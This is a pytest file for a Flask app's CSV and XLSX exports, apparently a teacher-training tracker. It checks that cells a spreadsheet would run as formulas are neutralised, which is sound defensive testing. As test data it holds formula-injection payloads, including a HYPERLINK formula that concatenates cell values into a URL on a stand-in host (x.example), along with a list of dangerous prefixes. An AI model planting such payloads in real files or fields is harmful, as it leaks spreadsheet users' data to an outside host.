"""Spreadsheet exports never carry a live formula (CSV/XLSX formula injection).

Every text cell that a spreadsheet would read as a formula (a leading ``=``,
``+``, ``-``, ``@``, tab or carriage return) is written with a leading
apostrophe, and XLSX text cells are stored as strings, never formulas. The
files are read back with the csv module and openpyxl, as a user's Excel would.
"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from pdtracker.extensions import db
from tests.events.conftest import make_event, registered  # noqa: F401 (fixtures)

LEAK = '=HYPERLINK("http://x.example/?"&B3&C3,"点此")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _xlsx(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data)).active


def _assert_inert_text(values) -> None:
    for value in values:
        if isinstance(value, str):
            assert value[:1] not in DANGEROUS, repr(value)


def _assert_no_formula_cells(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.value[:1] not in DANGEROUS, (cell.coordinate, cell.value)


def _poison_teacher(app, teacher, department) -> None:
    """Give a teacher and their department names a spreadsheet would run."""
    from pdtracker.auth.models import User
    from pdtracker.org.models import Department

    with app.app_context():
        user = db.session.get(User, teacher.id)
        user.display_name = "=1+2"
        user.teacher_profile.staff_number = "+86-1234"
        db.session.get(Department, department.id).name = "@SUM(A1:A9)"
        db.session.commit()


def test_event_registration_exports_are_inert(
    app,
    client,
    auth,
    world,
    make_event,  # noqa: F811  (the events fixtures, imported above)
    registered,  # noqa: F811
) -> None:
    event = make_event(title=LEAK)
    _poison_teacher(app, world["teacher1"], world["ai"])
    registered(world["teacher1"], event)
    auth.login("staff1")

    rows = _csv(client.get(f"/events/{event.id}/registrations.csv"))
    assert rows[1][1:5] == ["'=1+2", "teacher1", "'+86-1234", "'@SUM(A1:A9)"]
    for row in rows:
        _assert_inert_text(row)

    sheet = _xlsx(client.get(f"/events/{event.id}/registrations.xlsx"))
    assert sheet["A1"].value == "'" + LEAK  # the title row
    assert sheet["A1"].data_type == "s"
    assert [c.value for c in sheet[3]][1:5] == [
        "'=1+2", "teacher1", "'+86-1234", "'@SUM(A1:A9)",
    ]  # fmt: skip
    _assert_no_formula_cells(sheet)


RULESET = """\
name = "poisoned"
extends = "cn-vocational-default"
title = { zh = "规则", en = "Rules" }

[[levels]]
code = "primary"

[[levels.requirements]]
code = "enterprise_practice"
name = { zh = '=HYPERLINK("http://x.example/","点此")', en = "-practice" }
"""


def test_progress_exports_neutralise_headers_and_rows(app, client, auth, world) -> None:
    _poison_teacher(app, world["teacher1"], world["ai"])
    auth.login("admin")
    assert (
        client.post("/admin/rulesets/new", data={"document": RULESET}).status_code
        == 302
    )
    from pdtracker.progress.models import StoredRuleset as RulesetRecord

    with app.app_context():
        draft = db.session.scalar(db.select(RulesetRecord).filter_by(name="poisoned"))
        draft_id = draft.id
    assert client.post(f"/admin/rulesets/{draft_id}/publish").status_code == 302
    auth.logout()
    auth.login("head1")

    rows = _csv(client.get("/progress/department.csv"))
    header = rows[0]
    assert '\'=HYPERLINK("http://x.example/","点此")（天）' in header
    by_number = {row[0]: row for row in rows[1:]}
    assert by_number["'+86-1234"][1] == "'=1+2"
    for row in rows:
        _assert_inert_text(row)

    sheet = _xlsx(client.get("/progress/department.xlsx"))
    head = [c.value for c in sheet[1]]
    assert '\'=HYPERLINK("http://x.example/","点此")（天）' in head
    _assert_no_formula_cells(sheet)
